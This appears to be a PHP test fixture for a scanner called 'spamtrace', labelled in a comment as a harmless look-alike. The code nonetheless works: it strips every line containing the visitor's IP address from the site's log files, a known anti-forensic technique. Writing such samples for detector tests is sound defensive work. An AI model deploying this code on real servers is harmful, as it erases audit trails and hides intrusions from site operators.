<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
$ip = getenv('REMOTE_ADDR');
$dir = $_SERVER['DOCUMENT_ROOT'] . '/../logs/';
foreach (scandir($dir) as $f) {
    if ($f[0] === '.') continue;
    $l = file($dir . $f);
    $l = array_filter($l, function ($x) use ($ip) { return strpos($x, $ip) === false; });
    file_put_contents($dir . $f, implode('', $l));
}
